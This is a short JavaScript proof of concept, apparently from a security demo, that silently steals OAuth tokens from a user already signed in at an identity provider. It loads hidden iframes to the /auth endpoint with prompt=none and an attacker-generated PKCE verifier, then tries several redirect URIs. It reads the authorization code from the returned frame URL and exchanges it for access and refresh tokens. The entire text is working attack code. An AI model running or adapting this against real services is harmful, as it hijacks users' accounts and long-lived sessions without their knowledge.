// The user is signed in at the server already, so that a frame gets a code without a click.
const base64url = (bytes) =>
  btoa(String.fromCharCode(...bytes))
    .replace(/=/g, '')
    .replace(/\+/g, '-')
    .replace(/\//g, '_')
const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)))
const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))

for (const redirect of [`${location.origin}/signed-in`, `${demo.vault ?? location.origin}/bearer-worker.vault.html`]) {
  const request = new URLSearchParams({
    client_id: demo.clientId,
    redirect_uri: redirect,
    response_type: 'code',
    prompt: 'none',
    scope: 'openid offline_access rows',
    state: 'of-the-attacker',
    code_challenge: base64url(new Uint8Array(hash)),
    code_challenge_method: 'S256',
  })
  const frame = document.createElement('iframe')
  frame.src = `${demo.issuer}/auth?${request}`
  document.body.append(frame)
  await new Promise((resolve) => (frame.onload = resolve))
  let back
  try {
    back = new URL(frame.contentWindow.location.href)
  } catch (error) {
    say(`${redirect}: the frame ended on another origin, which this script cannot read: ${error.name}.`)
    continue
  }
  const code = back.searchParams.get('code')
  if (!code) {
    say(`${redirect}: ${back.searchParams.get('error') ?? 'no code'}.`)
    continue
  }
  say(`${redirect}: the frame came back with a code.`)
  const answer = await fetch(`${demo.issuer}/token`, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      client_id: demo.clientId,
      redirect_uri: redirect,
      code,
      code_verifier: verifier,
    }),
  })
  const tokens = await answer.json()
  if (tokens.access_token) found('access token', tokens.access_token)
  if (tokens.refresh_token) found('refresh token', tokens.refresh_token)
}
